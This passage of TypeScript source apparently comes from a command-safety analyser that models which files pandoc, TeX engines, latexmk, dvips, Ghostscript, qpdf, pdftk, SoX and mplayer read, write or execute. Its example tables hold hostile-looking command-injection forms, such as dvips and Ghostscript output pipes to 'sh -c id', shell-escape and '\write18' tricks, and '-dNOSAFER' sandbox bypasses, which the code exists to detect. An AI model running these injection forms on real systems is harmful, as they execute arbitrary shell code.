      '--metadata-file|-H|--include-in-header|-B|--include-before-body|-A|--include-after-body|--syntax-definition|--epub-cover-image|--epub-metadata|--epub-embed-font|--abbreviations':
        'read',
      '--extract-media': 'write-tree',
      '--log': 'write',
      '--pdf-engine': 'exec',
      '--pdf-engine-opt': 'value',
      '--resource-path|-M|--metadata|-V|--variable|--variable-json|-c|--css|--request-header|--columns|--wrap|--tab-stop|--dpi|--eol|--toc-depth|--shift-heading-level-by|--base-header-level|--top-level-division|--number-offset|--email-obfuscation|--id-prefix|-T|--title-prefix|--slide-level|--ipynb-output|--markdown-headings|--reference-location|--indented-code-classes|--default-image-extension|--track-changes|--split-level|--epub-chapter-level|--chunk-template|--epub-subdirectory|-D|--print-default-template|--print-default-data-file|--print-highlight-style|--figure-caption-position|--table-caption-position':
        'value',
      '--epub-title-page|--list-extensions|--html-q-tags|--link-images|-s|--standalone|--toc|--table-of-contents|-N|--number-sections|--citeproc|-C|--natbib|--biblatex|--listings|-i|--incremental|--section-divs|--ascii|--reference-links|--atx-headers|--strip-comments|--preserve-tabs|-p|--no-highlight|--file-scope|--verbose|--quiet|--fail-if-warnings|--no-check-certificate|--list-input-formats|--list-output-formats|--list-highlight-languages|--list-highlight-styles|-v|--version|-h|--help|--bash-completion|--dump-args|--ignore-args|--embed-resources|--self-contained|--sandbox|--strip-empty-paragraphs|--trace|--mathml|--gladtex|--mathjax|--katex|--webtex|--mimetex|--jsmath':
        'flag',
    },
    operands: ['value...'],
    custom: pandoc,
    subcommands: {
      lua: {
        options: {
          '-e': 'code:lua',
          '-l': 'value',
          '-i': { unknown: 'opens an interactive Lua prompt reading the terminal' },
          '-v|-E|-W': 'flag',
        },
        operands: ['value...'],
        effects: { stdin: 'code:lua' },
        custom(call) {
          const [script] = call.operands;
          if (script && script.text !== '-') call.ctx.runsFile(script, 'code:lua');
        },
      },
      server: {
        options: { '--port|--timeout': 'value' },
        effects: {
          network: true,
          unknown: 'runs an HTTP server that converts documents for whoever reaches it',
        },
      },
    },
    examples: [
      { cmd: 'pandoc README.md -o README.html', reads: ['README.md'], writes: ['README.html'], only: true },
      {
        cmd: 'pandoc -s --toc -f markdown -t docx --reference-doc ref.docx -M title=Report ch1.md ch2.md -o report.docx',
        reads: ['ch1.md', 'ch2.md', 'ref.docx'],
        writes: ['report.docx'],
        only: true,
      },
      {
        cmd: 'pandoc --citeproc --bibliography refs.bib --csl apa.csl paper.md -o paper.pdf',
        reads: ['refs.bib', 'apa.csl', 'paper.md'],
        writes: ['paper.pdf'],
        only: true,
      },
      {
        cmd: 'pandoc -H head.html --template tpl.html in.md',
        reads: ['head.html', 'tpl.html', 'in.md'],
        only: true,
      },
      {
        cmd: 'pandoc --extract-media=media in.docx -o out.md',
        writes: ['media', 'media/**', 'out.md'],
        only: true,
      },
      { cmd: 'pandoc -F ./filter.py in.md -o out.html', executes: ['filter.py'] },
      { cmd: 'pandoc --filter /tmp/evil in.md', executes: ['/tmp/evil'] },
      {
        cmd: 'pandoc --lua-filter=strip.lua in.md -o out.md',
        executes: ['strip.lua'],
        unknown: 'Lua filter',
      },
      { cmd: 'pandoc -t writer.lua in.md', executes: ['writer.lua'], unknown: 'Lua reader or writer' },
      { cmd: 'pandoc -d defaults.yaml', reads: ['defaults.yaml'], unknown: 'defaults file' },
      {
        cmd: 'pandoc --pdf-engine=xelatex --pdf-engine-opt=-shell-escape in.md -o out.pdf',
        unknown: 'shell commands',
      },
      { cmd: 'pandoc --pdf-engine=/tmp/evil in.md -o out.pdf', executes: ['/tmp/evil'] },
      { cmd: 'pandoc https://example.com/page.html -o page.md', hosts: ['example.com'], writes: ['page.md'] },
      { cmd: 'pandoc lua -e \'os.execute("id")\'', executes: ['inline:lua'] },
      { cmd: 'pandoc lua script.lua', executes: ['script.lua'] },
      { cmd: 'pandoc server', unknown: 'HTTP server', network: true },
    ],
  },
  {
    names: [
      'tex',
      'etex',
      'pdftex',
      'pdfetex',
      'latex',
      'pdflatex',
      'xelatex',
      'xetex',
      'lualatex',
      'luatex',
      'luahbtex',
      'lualatex-dev',
      'platex',
      'uplatex',
      'ptex',
      'uptex',
      'eptex',
      'euptex',
      'dvilualatex',
      'amstex',
      'initex',
      'virtex',
      'mpost',
      'metapost',
    ],
    summary: 'TeX engines: typeset a document',
    options: TEX_OPTIONS,
    operands: ['value...'],
    custom: tex,
    examples: [
      {
        cmd: 'pdflatex -interaction=nonstopmode -halt-on-error paper.tex',
        reads: ['paper.tex'],
        writes: ['./*'],
        only: true,
      },
      {
        cmd: 'xelatex -output-directory build -jobname final paper',
        reads: ['paper', 'paper.tex'],
        writes: ['build/*'],
        only: true,
      },
      {
        cmd: 'lualatex --synctex=1 --file-line-error main.tex',
        reads: ['main.tex'],
        writes: ['./*'],
        only: true,
      },
      { cmd: 'pdflatex -shell-escape paper.tex', unknown: 'shell escape' },
      { cmd: 'pdflatex --enable-write18 paper.tex', unknown: 'shell escape' },
      { cmd: 'pdflatex -cnf-line=shell_escape=t paper.tex', unknown: 'shell escape' },
      { cmd: "pdflatex '\\immediate\\write18{id}\\end'", unknown: 'TeX code' },
      { cmd: "tex '\\input story'", unknown: 'TeX code' },
      { cmd: 'luatex --luaonly script.lua', unknown: 'Lua' },
      { cmd: "xelatex -output-driver='sh -c id' paper.tex", runs: ['sh'] },
    ],
  },
  {
    names: ['latexmk'],
    summary: 'run LaTeX and its helpers as often as needed',
    options: {
      '-e|--e': 'code:perl',
      '-r|--r': { takes: 'read', unknown: 'runs a latexmkrc file, which is Perl code (`-r`)' },
      [both(
        'latex',
        'pdflatex',
        'lualatex',
        'xelatex',
        'dvilualatex',
        'dvipdf',
        'ps2pdf',
        'dvips',
        'makeindex',
        'bibtex',
        'biber',
        'print',
      )]: { takes: 'command', attached: true },
      [both('outdir', 'output-directory', 'auxdir', 'aux-directory')]: {
        takes: 'write-into',
        attached: true,
      },
      [both(
        'jobname',
        'interaction',
        'synctex',
        'view',
        'latexoption',
        'pdflatexoption',
        'usepretex',
        'pretex',
        'deps-out',
        'output-format',
        'e2',
        'emulate-aux-dir',
        'time',
      )]: { takes: 'value', attached: true },
      [both('MF', 'deps-out')]: 'write',
      [both('shell-escape', 'enable-write18')]: { unknown: SHELL_ESCAPE },
      [both(
        'norc',
        'dependents',
        'dependents-',
        'nodependents',
        'dF',
        'dvilua',
        'dvi-',
        'ps-',
        'pdf-',
        'pv-',
        'pvc-',
        'pvctest',
        'hnt',
        'moreverbose',
        'noemulate-aux-dir',
        'stdtexcmds',
        'rules-',
        'silence_logfile_warnings',
        'lualatex-',
        'xelatex-',
        'pdf',
        'pdfdvi',
        'pdfps',
        'pdflua',
        'pdfxe',
        'dvi',
        'ps',
        'pv',
        'pvc',
        'f',
        'g',
        'gg',
        'c',
        'C',
        'CA',
        'c1',
        'cd',
        'cd-',
        'silent',
        'quiet',
        'verbose',
        'no-shell-escape',
        'shell-restricted',
        'bibtex-cond',
        'bibtex-cond1',
        'nobibtex',
        'bibtex-',
        'deps',
        'M',
        'MP',
        'recorder',
        'l',
        'landscape',
        'p',
        'new-viewer',
        'rules',
        'rc-report',
        'showextraoptions',
        'use-make',
        'logfilewarninglist',
        'help',
        'version',
        'commands',
        'diagnostics',
        'xdv',
        'halt-on-error',
        'file-line-error',
        'nodvi',
        'nopdf',
        'nops',
        'nopv',
        'nopreview',
        'postscript',
        'r-',
        'time-',
        'view=pdf',
      )]: 'flag',
    },
    operands: ['value...'],
    custom: latexmk,
    examples: [
      {
        cmd: 'latexmk -pdf -interaction=nonstopmode paper.tex',
        reads: ['paper.tex'],
        writes: ['./*'],
        only: true,
      },
      { cmd: 'latexmk -pdf -outdir=build paper.tex', writes: ['build/*'], only: true },
      { cmd: 'latexmk -c paper.tex', deletes: ['paper.*'] },
      { cmd: 'latexmk -shell-escape paper.tex', unknown: 'shell escape' },
      {
        cmd: 'latexmk -pdflatex="pdflatex -shell-escape %O %S" paper.tex',
        runs: ['pdflatex'],
        unknown: 'shell escape',
      },
      {
        cmd: "latexmk -e '$pdflatex=q/sh -c id/' paper.tex",
        executes: ['inline:perl'],
        unknown: 'sets a command',
      },
      { cmd: 'latexmk -r evil.rc paper.tex', unknown: 'Perl' },
    ],
  },
  {
    names: ['bibtex', 'bibtex8', 'bibtexu', 'pbibtex', 'upbibtex'],
    summary: 'make a bibliography from an .aux file',
    options: {
      [both('min-crossrefs', 'kpathsea-debug')]: 'value',
      '-c|--csfile': 'read',
      [both('terse', 'help', 'version', 'statistics', 'traditional', 'debug')]: 'flag',
      '-W|-H|-7|-8|-t|-s|-d|-v|-h': 'flag',
    },
    operands: ['value...'],
    custom: texHelper('.aux', ['.bbl', '.blg']),
    examples: [{ cmd: 'bibtex paper', reads: ['paper.aux'], writes: ['paper.bbl', 'paper.blg'], only: true }],
  },
  {
    names: ['biber'],
    summary: 'process BibLaTeX bibliographies',
    options: {
      '--output-directory|--output_directory': 'value',
      '--input-directory|--input_directory': 'read-tree',
      '-O|--output-file|--output_file|--outfile|--logfile': 'write',
      '-g|--configfile': 'read',
      '--mincrossrefs|--sortlocale|-l|--input-format|--output-format|--output-encoding|--input-encoding|--output-indent|--output-fieldcase|--collate-options|--listsep|--namesep|--others-string|--dot-include|--output-align|--decodecharsset|--output-safechars|--output-safecharsset|--nodieonerror|--sortcase|--sortupper|--xsvsep|--mssplit|--isbn-normalise|--date-format|--tool-config|--tool-noremove-missing-dependants':
        'value',
      '--tool|-V|--validate-control|--validate-datamodel|--ssl-noverify|--ssl-nointernalca|-q|--quiet|-D|--debug|--trace|-T|-u|-U|--noconf|--onlylog|--nolog|--cache|--clrmacros|-w|--winunicode|--help|-h|-v|--version|--fixinits|--noskipduplicates|--noxname|--strip-comments|--convert-control|--nodefaultsources':
        'flag',
    },
    operands: ['value...'],
    custom: texHelper('.bcf', ['.bbl', '.blg'], ['--output-directory', '--output_directory']),
    examples: [
      { cmd: 'biber paper', reads: ['paper.bcf'], writes: ['paper.bbl', 'paper.blg'], only: true },
      {
        cmd: 'biber --output-directory build build/paper',
        reads: ['build/paper.bcf'],
        writes: ['build/paper.bbl', 'build/paper.blg'],
        only: true,
      },
    ],
  },
  {
    names: ['makeindex', 'upmendex', 'mendex'],
    summary: 'sort and format an index for LaTeX',
    options: { '-o|-t': 'write', '-s': 'read', '-p': 'value', '-c|-g|-i|-l|-q|-r|-L|-T': 'flag' },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      for (const file of call.operands) {
        const base = file.text.replace(/\.idx$/, '');
        ctx.apply('read', f(file, `${base}.idx`));
        if (!call.has('-o')) ctx.apply('write', f(file, `${base}.ind`));
        if (!call.has('-t')) ctx.apply('write', f(file, `${base}.ilg`));
      }
    },
    examples: [
      { cmd: 'makeindex paper', reads: ['paper.idx'], writes: ['paper.ind', 'paper.ilg'], only: true },
      {
        cmd: 'makeindex -s style.ist -o out.ind paper.idx',
        reads: ['style.ist', 'paper.idx'],
        writes: ['out.ind', 'paper.ilg'],
        only: true,
      },
    ],
  },
  {
    names: ['context', 'mtxrun'],
    summary: 'ConTeXt: typeset a document (and run its Lua helper scripts)',
    options: {
      '--result|--path|--mode|--modes|--runs|--jobname|--interface|--trackers|--directives|--usemodule|--arrange|--timing|--pages|--pdfpages|--fmt':
        'value',
      '--environment': 'read',
      '--extra|--script|--ctx|--execute|--lua': { takes: 'value', unknown: 'runs a Lua script or module' },
      '--once|--batchmode|--nonstopmode|--purge|--purgeall|--purgeresult|--synctex|--noconsole|--silent|--global|--forcexml|--forcecld|--forcelua|--forcemp|--paranoid|--version|--help|--make|--generate|--autogenerate|--nostatistics|--nodates|--nocompression|--autopdf|--noarrange|--verbose':
        'flag',
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      if (call.program === 'mtxrun') {
        if (call.operands.length > 0 && !call.has('--script', '--execute', '--lua', '--extra', '--ctx'))
          ctx.unknown('`mtxrun` runs a Lua script');
        return;
      }
      for (const file of call.operands) ctx.apply('read', file);
      if (call.operands.length > 0) ctx.write(`${ctx.path('.')}/*`);
    },
    examples: [
      { cmd: 'context --once --batchmode doc.tex', reads: ['doc.tex'], writes: ['./*'], only: true },
      { cmd: 'context --extra=evil doc.tex', unknown: 'Lua' },
      { cmd: 'mtxrun --script fonts --reload', unknown: 'Lua' },
    ],
  },
  {
    names: ['dvips'],
    summary: 'convert DVI to PostScript',
    options: {
      '-o': 'value',
      '-h|-u': 'read',
      '-P|-t|-D|-O|-T|-x|-y|-p|-l|-pp|-n|-c|-b|-e|-S|-C|-d|-mode|-X|-Y|-W': 'value',
      '-Z|-z|-j|-k|-K|-N|-M|-a|-A|-B|-E|-F|-G|-i|-L|-m|-q|-r|-s|-V|-v|-f|-U|-noomega|-noptex|-?|--help|--version':
        'flag',
      '-R0': { unknown: 'lets the document run shell commands (`-R0`)' },
      '-R|-R1|-R2': 'flag',
    },
    operands: ['read...'],
    custom(call) {
      const { ctx } = call;
      const out = call.values('-o')[0];
      if (!out) {
        const [dvi] = call.operands;
        if (dvi?.known && !call.has('-f'))
          ctx.apply('write', f(dvi, `${stem(dvi.text.replace(/^.*\//, ''))}.ps`));
        return;
      }
      const pipe = /^[!|](.*)$/s.exec(out.text);
      if (out.known && pipe) ctx.runScript(pipe[1]!, 'dvips -o');
      else if (out.text !== '-') ctx.apply('write', out);
    },
    examples: [
      { cmd: 'dvips -o paper.ps paper.dvi', reads: ['paper.dvi'], writes: ['paper.ps'], only: true },
      { cmd: "dvips -o '!sh -c id' paper.dvi", runs: ['sh'] },
      { cmd: 'dvips -R0 paper.dvi', unknown: 'shell commands' },
    ],
  },
  {
    names: ['dvipdfmx', 'xdvipdfmx', 'dvipdfm', 'dvisvgm'],
    summary: 'convert DVI (and XDV) to PDF or SVG',
    options: {
      '-o|--output': 'write',
      '-D': 'command',
      '-f|--fontmap': 'read',
      '-m|-x|-y|-p|-r|-s|-z|-d|-V|-C|-K|-P|-O|-I|-l|--page|--pages|--scale|--zoom|--precision|--bbox|--font-format|--exact-bbox|--libgs|-b|-c|-e|-j|-n|-T|-Z':
        'value',
      '-q|-v|-M|-E|-S|-L|--pdf|--eps|--no-fonts|--stdout|--help|--version|--verbose|--list-specials': 'flag',
    },
    operands: ['read...'],
    custom(call) {
      const [dvi] = call.operands;
      if (!call.has('-o', '--output', '--stdout') && dvi?.known)
        call.ctx.apply(
          'write',
          f(dvi, `${stem(dvi.text.replace(/^.*\//, ''))}.${call.program === 'dvisvgm' ? 'svg' : 'pdf'}`),
        );
    },
    examples: [
      { cmd: 'dvipdfmx paper.dvi', reads: ['paper.dvi'], writes: ['paper.pdf'], only: true },
      { cmd: "dvipdfmx -D 'sh -c id' paper.dvi", runs: ['sh'] },
    ],
  },
  {
    names: ['gs', 'gsc', 'gsx', 'gswin64c', 'gswin32c', 'ghostscript', 'gsnd'],
    summary: 'Ghostscript: interpret PostScript and PDF',
    operands: ['value...'],
    rewrite: OWN,
    custom(call) {
      for (const input of ghostscript(call, own(call))) call.ctx.apply('read', input);
    },
    examples: [
      {
        cmd: 'gs -q -dNOPAUSE -dBATCH -sDEVICE=pdfwrite -dPDFSETTINGS=/ebook -sOutputFile=small.pdf big.pdf',
        reads: ['big.pdf'],
        writes: ['small.pdf'],
        only: true,
      },
      {
        cmd: 'gs -sDEVICE=png16m -r150 -o page-%03d.png doc.pdf',
        reads: ['doc.pdf'],
        writes: ['page-*.png'],
        only: true,
      },
      { cmd: 'gs -dNOSAFER -f evil.ps', unknown: 'without its file sandbox' },
      { cmd: 'gs -dSAFER=false x.ps', unknown: 'without its file sandbox' },
      { cmd: 'gs -dDELAYSAFER x.ps', unknown: 'without its file sandbox' },
      { cmd: "gs -sDEVICE=pdfwrite -sOutputFile='%pipe%sh -c id' in.ps", runs: ['sh'] },
      { cmd: 'gs -q -dNODISPLAY -c "(hello) print quit"', only: true },
      { cmd: 'gs @opts.txt in.ps', unknown: 'more arguments' },
      { cmd: 'gs --permit-file-write=/h/ x.ps', writes: ['~/**'] },
    ],
  },
  {
    names: ['ps2pdf', 'ps2pdf12', 'ps2pdf13', 'ps2pdf14', 'ps2pdfwr', 'eps2pdf'],
    summary: 'convert PostScript to PDF with Ghostscript',
    operands: ['value...'],
    rewrite: OWN,
    custom: gsScript('.pdf'),
    examples: [
      {
        cmd: 'ps2pdf -dPDFSETTINGS=/prepress paper.ps',
        reads: ['paper.ps'],
        writes: ['paper.pdf'],
        only: true,
      },
      { cmd: 'ps2pdf in.ps out.pdf', reads: ['in.ps'], writes: ['out.pdf'], only: true },
      { cmd: 'ps2pdf -dNOSAFER in.ps', unknown: 'without its file sandbox' },
    ],
  },
  {
    names: ['pdf2ps', 'ps2ps', 'ps2ps2', 'eps2eps', 'ps2epsi', 'ps2ascii', 'pdf2dsc', 'pdf2ps2'],
    summary: 'convert between PostScript and PDF with Ghostscript',
    operands: ['value...'],
    rewrite: OWN,
    custom(call) {
      const ext =
        call.program === 'pdf2ps'
          ? '.ps'
          : call.program === 'ps2epsi'
            ? '.epsi'
            : call.program === 'pdf2dsc'
              ? '.dsc'
              : undefined;
      gsScript(ext)(call);
    },
    examples: [
      { cmd: 'pdf2ps doc.pdf', reads: ['doc.pdf'], writes: ['doc.ps'], only: true },
      { cmd: 'eps2eps in.eps out.eps', reads: ['in.eps'], writes: ['out.eps'], only: true },
      { cmd: 'pdf2ps -dNOSAFER doc.pdf', unknown: 'without its file sandbox' },
    ],
  },
]);

// ---------------------------------------------------------------------------------------------
// PDF tools: poppler, qpdf, MuPDF, pdftk, OCR.

/** Poppler's single-dash options: every one is declared (an undeclared one would read as a cluster). */
function poppler(
  values: string,
  flags: string,
  extra: Record<string, OptionEntry> = {},
): Record<string, OptionEntry> {
  return {
    [`${values}|-opw|-upw`]: 'value',
    [`${flags}|-q|-v|-h|-help|--help|-?`]: 'flag',
    ...extra,
  };
}

/** A page range of pdftk or qpdf (`1-5`, `z`, `r2`, `1,3-4:even`, `Aeven`, `end`). */
const PAGE_RANGE =
  /^(?:[A-Z]*(?:r?\d+|z|end)?(?:-(?:r?\d+|z|end))?(?:even|odd)?(?:north|south|east|west|left|right|down)?,?)+(?::(?:even|odd))?$/;

function qpdf(call: Call): void {
  const { ctx } = call;
  const args = own(call);
  const operands: Field[] = [];
  let replace = false;
  let empty = false;
  let split = false;
  const block = (from: number, first: 'read' | 'pages' | 'value'): number => {
    let i = from;
    let seenFile = false;
    for (; i < args.length; i++) {
      const a = args[i]!;
      if (a.known && a.text === '--') return i;
      if (a.known && a.text.startsWith('--')) {
        const file = /^--(?:file|password-file)=(.*)$/s.exec(a.text);
        if (file) ctx.apply('read', f(a, file[1]!));
        continue;
      }
      if (first === 'value') continue;
      if (first === 'read' && seenFile) continue;
      if (
        a.known &&
        (a.text === '.' || (first === 'pages' && PAGE_RANGE.test(a.text) && /\d|^z$|^r/.test(a.text)))
      )
        continue;
      ctx.apply('read', a);
      seenFile = true;
    }
    return i;
  };
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (!a.known) {
      if (a.many || a.text.startsWith('-'))
        ctx.unknown(
          `\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs, where it can be an option that writes something`,
        );
      operands.push(a);
      continue;
    }
    const t = a.text;
    if (t.startsWith('@')) {
      ctx.apply('read', f(a, t.slice(1)));
      ctx.unknown(`\`${call.program}\` reads more arguments from \`${t.slice(1)}\``);
      continue;
    }
    if (!t.startsWith('--') || t === '--') {
      operands.push(a);
      continue;
    }
    const eq = t.indexOf('=');
    const name = eq < 0 ? t : t.slice(0, eq);
    const value = eq < 0 ? undefined : f(a, t.slice(eq + 1));
    switch (name) {
      case '--encrypt':
        i = block(i + 1, 'value');
        break;
      case '--pages':
        i = block(i + 1, 'pages');
        break;
      case '--overlay':
      case '--underlay':
      case '--copy-attachments-from':
      case '--add-attachment':
        i = block(i + 1, 'read');
        break;
      case '--password-file':
      case '--update-from-json':
        if (value) ctx.apply('read', value);
        break;
      case '--job-json-file':
        if (value) ctx.apply('read', value);
        ctx.unknown(`\`${call.program}\` runs a JSON job file, which names the files it writes`);
        break;
      case '--json-stream-prefix':
        if (value) ctx.apply('write', f(value, `${value.text}*`));
        break;
      case '--replace-input':
        replace = true;
        break;
      case '--empty':
        empty = true;
        break;
      case '--split-pages':
        split = true;
        break;
    }
  }
  const [infile, outfile] = empty ? [undefined, operands[0]] : [operands[0], operands[1]];
  if (infile) ctx.apply(replace ? 'write' : 'read', infile);
  if (replace) {
    if (infile) ctx.apply('read', infile);
    return;
  }
  if (!outfile || outfile.text === '-') return;
  if (split && outfile.known && !outfile.text.includes('%d'))
    ctx.apply('write', f(outfile, `${stem(outfile.text)}-*${outfile.text.slice(stem(outfile.text).length)}`));
  else ctx.apply('write', f(outfile, sequence(outfile.text)));
}

const PDFTK_OPERATIONS = new Set(
  'cat shuffle burst rotate generate_fdf fill_form background multibackground stamp multistamp dump_data dump_data_utf8 dump_data_fields dump_data_fields_utf8 dump_data_annots update_info update_info_utf8 attach_files unpack_files'.split(
    ' ',
  ),
);
const PDFTK_FILE_ARGUMENT = new Set([
  'fill_form',
  'background',
  'multibackground',
  'stamp',
  'multistamp',
  'update_info',
  'update_info_utf8',
  'attach_files',
]);

function pdftk(call: Call): void {
  const { ctx } = call;
  let phase: 'inputs' | 'passwords' | 'operation' | 'after' = 'inputs';
  let operation: string | undefined;
  let output: Field | undefined;
  const args = own(call);
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    const t = a.known ? a.text : '';
    if (!a.known && a.many)
      ctx.unknown(
        `\`${call.program}\` gets \`${a.text}\`, which may be several words when the command runs, where it can name an output`,
      );
    if (a.known && t === 'output') {
      output = args[++i];
      phase = 'after';
      continue;
    }
    if (phase === 'after') {
      if (a.known && /^(owner_pw|user_pw|allow)$/.test(t)) i++;
      continue;
    }
    if (a.known && PDFTK_OPERATIONS.has(t) && phase !== 'operation') {
      operation = t;
      phase = 'operation';
      continue;
    }
    if (a.known && t === 'input_pw') {
      phase = 'passwords';
      continue;
    }
    if (phase === 'passwords') continue;
    if (phase === 'inputs') {
      const handle = a.known ? /^[A-Z]+=(.*)$/s.exec(t) : null;
      const file = handle ? f(a, handle[1]!) : a;
      if (file.text !== '-' && file.text !== 'PROMPT') ctx.apply('read', file);
      continue;
    }
    // Arguments of the operation: files for some, page ranges for the others.
    if (operation && PDFTK_FILE_ARGUMENT.has(operation) && !(a.known && /^(to_page|\d+|PROMPT|-)$/.test(t)))
      ctx.apply('read', a);
  }
  if (output && output.text !== '-') {
    if (operation === 'unpack_files') ctx.apply('write-into', output);
    else ctx.apply('write', f(output, sequence(output.text)));
  } else if (!output) {
    if (operation === 'burst') ctx.write(ctx.path('pg_*.pdf'));
    if (operation === 'burst') ctx.write(ctx.path('doc_data.txt'));
    if (operation === 'unpack_files') ctx.write(`${ctx.path('.')}/*`);
  }
}

// ---------------------------------------------------------------------------------------------
// Audio: SoX, LAME, FLAC, Opus.

const SOX_VALUE = new Set(
  '--buffer --input-buffer --combine --effects-file --plot --replay-gain --temp --play-rate-arg -t --type -r --rate -c --channels -b --bits -e --encoding -C --compression -v --volume --add-comment --comment --comment-file --endian'.split(
    ' ',
  ),
);
const SOX_EFFECTS = new Set(
  (
    'allpass band bandpass bandreject bass bend biquad chorus channels compand contrast dcshift deemph delay dither divide downsample earwax ' +
    'echo echos equalizer fade fir firfit flanger gain highpass hilbert input ladspa loudness lowpass mcompand noiseprof noisered norm oops ' +
    'output overdrive pad phaser pitch rate remix repeat reverb reverse riaa silence sinc spectrogram speed splice stat stats stretch swap ' +
    'synth tempo treble tremolo trim upsample vad vol newfile restart'
  ).split(' '),
);
const SOX_DEVICES = new Set(['alsa', 'pulseaudio', 'coreaudio', 'oss', 'waveaudio', 'sndio', 'sunau', 'ao']);

function sox(call: Call): void {
  const { ctx } = call;
  const args = own(call);
  const files: Array<{ field?: Field; device?: boolean; type?: string }> = [];
  let type: string | undefined;
  let effects: Field[] | undefined;
  const need = call.program === 'sox' ? 2 : 1;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (effects) {
      effects.push(a);
      continue;
    }
    if (!a.known) {
      if (a.many || a.text.startsWith('-'))
        ctx.unknown(
          `\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs, where it can be an option`,
        );
      files.push({ field: a });
      continue;
    }
    const t = a.text;
    if (t.startsWith('-') && t !== '-') {
      if (t === '-n' || t === '--null' || t === '-p' || t === '--sox-pipe') files.push({ device: false });
      else if (t === '-d' || t === '--default-device') files.push({ device: true });
      const eq = t.indexOf('=');
      const name = eq < 0 ? t : t.slice(0, eq);
      if (!SOX_VALUE.has(name)) continue;
      const v = eq < 0 ? args[++i] : f(a, t.slice(eq + 1));
      if (!v) continue;
      if (name === '-t' || name === '--type') type = v.text;
      else if (name === '--effects-file' || name === '--comment-file') ctx.apply('read', v);
      else if (name === '--temp') ctx.apply('write-into', v);
      continue;
    }
    if (files.length >= need && SOX_EFFECTS.has(t)) {
      effects = [a];
      continue;
    }
    files.push({ field: a, ...(type !== undefined ? { type } : {}) });
    type = undefined;
  }
  const input = (file: (typeof files)[number]) => {
    if (file.device || (file.type && SOX_DEVICES.has(file.type))) return ctx.read('/dev/snd/*');
    const v = file.field;
    if (!v || v.text === '-') return;
    if (v.known && v.text.startsWith('|'))
      return ctx.runScript(v.text.slice(1), `${call.program} (|command)`);
    if (v.known && URL_SHAPE.test(v.text)) return void ctx.contact(v);
    ctx.apply('read', v);
  };
  const output = (file: (typeof files)[number]) => {
    if (file.device !== undefined || (file.type && SOX_DEVICES.has(file.type)) || !file.field) return;
    ctx.apply('write', file.field);
  };
  if (call.program === 'rec') {
    ctx.read('/dev/snd/*');
    for (const file of files) output(file);
  } else if (call.program === 'play') for (const file of files) input(file);
  else {
    for (const file of files.slice(0, -1)) input(file);
    const last = files.at(-1);
    if (last) output(last);
  }
  // Effects that read or write files, or load plugins.
  const list = effects ?? [];
  for (let i = 0; i < list.length; i++) {
    const e = list[i]!;
    const next = list[i + 1];
    const fileArgument =
      next && next.text !== '-' && !SOX_EFFECTS.has(next.text) && !next.text.startsWith('-')
        ? next
        : undefined;
    if (e.text === 'noiseprof' && fileArgument) ctx.apply('write', fileArgument);
    else if (e.text === 'noisered' && fileArgument) ctx.apply('read', fileArgument);
    else if (e.text === 'ladspa')
      ctx.unknown(`\`${call.program}\`'s \`ladspa\` effect loads a LADSPA plugin (native code)`);
    else if (e.text === 'spectrogram') {
      const o = list.findIndex((x, j) => j > i && x.text === '-o');
      if (o > 0 && list[o + 1]) ctx.apply('write', list[o + 1]!);
      else ctx.write(ctx.path('spectrogram.png'));
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Players.

/** `scheme://` inputs of players that capture devices instead of reading files. */
function playerInput(call: Call, v: Field): void {
  const { ctx } = call;
  if (!v.known) return ctx.apply('read', v);
  const scheme = /^([a-z0-9+]+):\/\//i.exec(v.text)?.[1]?.toLowerCase();
  if (
    scheme === 'screen' ||
    (scheme === 'av' && /^av:\/\/(x11grab|xcbgrab|kmsgrab|fbdev|gdigrab|avfoundation|dshow)/i.test(v.text))
  )
    return ctx.unknown(`\`${call.program}\` records the screen (\`${v.text}\`)`);
  if (scheme && /^(v4l2?|dshow|qtcapture|avcapture|av)$/.test(scheme)) return ctx.read('/dev/video*');
  if (scheme && /^(alsa|pulse|jack|oss|qtsound)$/.test(scheme)) return ctx.read('/dev/snd/*');
  if (scheme && /^(cdda|dvd|dvdsimple|dvdnav|vcd|bluray|dvb|dtv)$/.test(scheme)) return ctx.read('/dev/*');
  if (scheme === 'vlc' || v.text === '-') return;
  if (URL_SHAPE.test(v.text)) ctx.contact(v);
  else ctx.apply('read', v);
}

/** mpv's `--vf=lavfi=[graph]` and `--lavfi-complex`: FFmpeg filter graphs. */
function mpvFilters(call: Call, values: Field[]): void {
  for (const v of values) {
    const lavfi = /lavfi=\[(.*)\]/s.exec(v.text);
    filtergraph(call, lavfi ? f(v, lavfi[1]!) : v);
  }
}

const MPLAYER_VALUE = new Set(
  (
    'vo ao vf af vf-add af-add vf-pre af-pre vf-del af-del ss endpos loop sub audiofile playlist dumpfile input include profile x y xy ' +
    'geometry volume speed channels srate cache cache-min demuxer vc ac aid sid vid alang slang fps ofps lavdopts frames chapter ' +
    'dvd-device cdrom-device tv user passwd referrer user-agent msglevel o oac ovc lavcopts xvidencopts x264encopts of lameopts ' +
    'faacopts subcp subfont font subfont-text-scale subpos sub-fuzziness ass-force-style monitoraspect aspect dvdangle edl ' +
    'cookies-file http-header-fields mc autosync delay afm vfm wid colorkey fstype screenw screenh softvol-max ssf sws ' +
    'xineramascreen mixer mixer-channel playing-msg title lircconf menu-cfg sub-demuxer audio-demuxer sb skip-frames ' +
    'stop-xscreensaver-delay zoom-factor dumpaudio-file mf lavfopts lavcopts mpegopts ffactor noise pp vop sstep'
  ).split(' '),
);

function mplayer(call: Call): void {
  const { ctx } = call;
  let dumpTo: Field | undefined;
  let dumps = false;
  walk(
    call,
    own(call),
    (t) => (t.startsWith('-') && t !== '-' ? (MPLAYER_VALUE.has(t.slice(1)) ? 1 : 0) : undefined),
    (name, [v]) => {
      const option = name.slice(1);
      if (option === 'slave')
        ctx.unknown(
          `\`${call.program} -slave\` takes player commands, which can run shell commands, from its standard input`,
        );
      if (/^dump(stream|audio|video|sub)$/.test(option)) dumps = true;
      if (!v) return;
      switch (option) {
        case 'sub':
        case 'audiofile':
        case 'playlist':
        case 'edl':
        case 'cookies-file':
        case 'subfont':
        case 'font':
          ctx.apply('read', v);
          return;
        case 'dumpfile':
        case 'dumpaudio-file':
          dumpTo = v;
          return;
        case 'o':
          ctx.apply('write', v);
          return;
        case 'include':
        case 'lircconf':
